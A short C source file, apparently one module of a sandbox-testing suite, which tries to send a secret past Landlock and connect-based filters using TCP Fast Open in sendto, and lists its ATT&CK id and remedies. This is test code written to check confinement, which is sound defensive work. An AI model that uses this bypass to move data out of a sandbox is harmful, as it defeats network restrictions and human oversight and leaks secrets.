// SPDX-License-Identifier: MIT
/*
 * Goal:  bytes reach the attacker's host.
 * Means: sendto(2) with MSG_FASTOPEN connects and sends in one call. connect(2), where filters and
 *        Landlock's rules stand, is not called; kernels that know this gap check here as well.
 */
#include "attacks/attack.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <string.h>
#include <sys/socket.h>

static enum claim run(const struct brief *b)
{
	struct sockaddr_in to = { .sin_family = AF_INET,
				  .sin_port = htons((in_port_t)b->sink),
				  .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
	int fd;

	attempting(b);
	fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (fd < 0)
		return denied("socket");
	if (sendto(fd, b->secret, strlen(b->secret), MSG_FASTOPEN, (struct sockaddr *)&to,
		   sizeof(to)) < 0)
		return denied("sendto MSG_FASTOPEN");
	return CLAIM_DONE;
}

const struct attack attack = {
	.effect = "bytes reach the attacker's host",
	.means = "TCP Fast Open: sendto(2) connects by itself, connect(2) is never called",
	.oracle = "sink",
	.id = "NET-01",
	.attack_id = "T1041, CWE-184",
	.remedy = "seccomp without socket(2); a network namespace",
	.refs = (const char *const[]){ "tcp(7), TCP_FASTOPEN", "landlock(7)", NULL },
	.run = run,
};
